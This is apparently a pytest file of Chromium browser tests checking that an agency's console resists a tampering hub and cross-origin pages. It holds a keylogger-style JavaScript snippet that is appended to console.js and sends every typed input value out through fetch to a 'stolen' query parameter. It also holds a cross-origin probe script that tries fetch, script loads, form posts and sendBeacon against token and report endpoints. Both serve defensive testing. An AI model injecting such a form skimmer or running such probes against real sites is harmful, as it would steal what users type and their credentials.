"""The console that an agency serves, in Chromium: lying hubs and pages elsewhere get nothing."""

import base64
import gzip
import hashlib
import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

import app.routers.console as own_copy
from app.crypto.federation import fingerprint
from app.schemas.console import Asset, Place, find_asset, pinned, render_page
from tests.agency_console import fake_hub, serving_console
from tests.browser.chromium import Browser, chromium
from tests.browser.console_steps import (
    SUBMIT,
    answer_to_agreement,
    enrol,
    incident,
    open_console,
    open_report,
    shown_by,
    sign_in,
    violations,
    write_report,
)
from tests.browser.files import serving
from tests.browser.recorder import recording
from tests.canaries import find_words
from tests.hub import DatabaseUnderTest, HubUnderTest, running_hub

OFFICER = "id-polri/demoliaiso"
WORD, NAME = "RAHSIAzv5n1xk8", "MANGSAzv5n1xk8"
REPORT = incident("id-polri", text=WORD, victim=NAME)
STEALS = (
    b";document.addEventListener('input', (event) =>"
    b" fetch('/v1/categories?stolen=' + encodeURIComponent(event.target.value)), true);"
)


@pytest.fixture(scope="module")
def hub(
    database: DatabaseUnderTest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[HubUnderTest]:
    with running_hub(database, tmp_path_factory.mktemp("hub"), ["id-polri"]) as running:
        object.__setattr__(running.hub, "is_demo", True)
        yield running


@pytest.fixture
def tampering(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let the hub serve a script of its own in the console's place, pinned as it should be."""
    whole = find_asset("console.js")
    assert whole
    changed = whole.content + STEALS
    digest = f"sha384-{base64.b64encode(hashlib.sha384(changed).digest()).decode()}"

    def serve(name: str) -> Asset | None:
        if name != "console.js":
            return find_asset(name)
        return replace(whole, content=changed, packed=gzip.compress(changed), tag=f'"{digest}"')

    def write(place: Place) -> str:
        return render_page(place).replace(pinned()["console.js"], digest)

    monkeypatch.setattr(own_copy, "find_asset", serve)
    monkeypatch.setattr(own_copy, "render_page", write)


def test_hub_that_tampers_with_scripts_gets_nothing_from_an_agencys_console_in_chromium(
    hub: HubUnderTest, tampering: None, browser: Browser
) -> None:
    compared = fingerprint(hub.world.federation_file)
    with (
        recording(int(hub.url.rpartition(":")[2])) as recorder,
        serving_console(hub.url, compared, proxy=f"http://127.0.0.1:{recorder.port}") as console,
        browser.fresh() as tab,
    ):
        open_console(tab, hub, console.url)
        assert "agency's own" in tab.run("document.querySelector('.trust').innerText")
        sign_in(tab, OFFICER)
        enrol(tab, hub, OFFICER)
        write_report(tab, REPORT)
        answer_to_agreement(tab, "#agree-send")
        status, told = shown_by(tab, SUBMIT)
        assert status == "201", told
        [row] = hub.rows("SELECT id::text AS id FROM reports ORDER BY seq DESC LIMIT 1")
        status, told = open_report(tab, "id-polri", row["id"])
        assert status == "200", told
        assert WORD in told
        assert violations(tab) == []
        sent = b"".join(recorder.sent)
        assert b"POST " in sent
        assert b"/v1/reports HTTP" in sent
        assert find_words([WORD, NAME], [sent]) == set()
    [session] = hub.rows("SELECT client FROM sessions ORDER BY id DESC LIMIT 1")
    assert session["client"] == "agency-console"


def test_hub_that_tampers_with_scripts_gets_what_is_typed_into_its_own_copy_in_chromium(
    hub: HubUnderTest, tampering: None, tmp_path: Path
) -> None:
    """The honest limit: whoever serves a page can change it, and this page says so."""
    with recording(int(hub.url.rpartition(":")[2])) as recorder:
        with chromium(tmp_path, *recorder.flags) as tab:
            open_console(tab, hub)
            assert "trusts the hub" in tab.run("document.querySelector('.trust').innerText")
            write_report(tab, REPORT)
            tab.run("new Promise((resolve) => setTimeout(resolve, 300))")
        assert {word for word, _ in find_words([WORD], [b"".join(recorder.sent)])} == {WORD}


def test_federation_that_was_not_compared_is_not_taken_by_an_agencys_console_in_chromium(
    hub: HubUnderTest, browser: Browser
) -> None:
    with (
        serving_console(hub.url, fingerprint(b"the one that was compared")) as console,
        browser.fresh() as tab,
    ):
        open_console(tab, hub, console.url)
        sign_in(tab, OFFICER)
        tab.wait("document.querySelector('.bar-said').innerText.includes('another federation')")
        assert "…" in tab.run("document.getElementById('chip-keys').innerText")


def test_page_elsewhere_reaches_neither_console_nor_hub_in_chromium(
    browser: Browser, tmp_path: Path
) -> None:
    with fake_hub() as hub, serving_console(hub.url) as console, browser.fresh() as tab:
        hub.headers = [("content-type", "application/json"), ("content-length", "2")]
        (tmp_path / "page").mkdir()
        (tmp_path / "page" / "a.js").write_text("")
        with serving(tmp_path / "page", "a.js") as evil:
            tab.open(evil.url)
            heard = tab.run(_everything_a_page_can_try(console.url))
            tab.open(f"{console.url}/docs")
            own = tab.run("fetch('/v1/categories').then((it) => it.status)")
        assert set(heard) <= {"refused", "opaque"}
        assert own == 200
        assert [each.line for each in hub.asked] == ["GET /v1/categories HTTP/1.1"]


def _everything_a_page_can_try(url: str) -> str:
    at = json.dumps(url)
    return (
        "(async () => { const heard = [];"
        f"for (const [path, init] of [['/v1/me', {{}}], ['/v1/me', {{mode: 'no-cors'}}],"
        " ['/v1/token', {method: 'POST', mode: 'no-cors', body: new URLSearchParams({a: 1})}],"
        " ['/v1/reports', {method: 'POST', body: '{}', headers: {DPoP: 'x'}}]])"
        f" heard.push(await fetch({at} + path, init).then((it) => it.type, () => 'refused'));"
        "const loads = (made) => new Promise((told) => { made.onload = () => told('loaded');"
        " made.onerror = () => told('refused'); document.body.append(made); });"
        "for (const [tag, path] of [['script', '/v1/me'], ['script', '/docs/assets/console.js'],"
        " ['img', '/docs/assets/mark.svg']])"
        " heard.push(await loads(Object.assign(document.createElement(tag),"
        f" {{src: {at} + path}})));"
        "const frame = Object.assign(document.createElement('iframe'), {name: 'f'});"
        "document.body.append(frame);"
        "const form = Object.assign(document.createElement('form'),"
        f" {{method: 'post', target: 'f', action: {at} + '/v1/token'}});"
        "document.body.append(form); form.submit();"
        "await new Promise((resolve) => setTimeout(resolve, 500));"
        f"heard.push(await navigator.sendBeacon({at} + '/v1/token', 'a=1') ? 'opaque' : 'refused');"
        "await new Promise((resolve) => setTimeout(resolve, 300)); return heard; })()"
    )
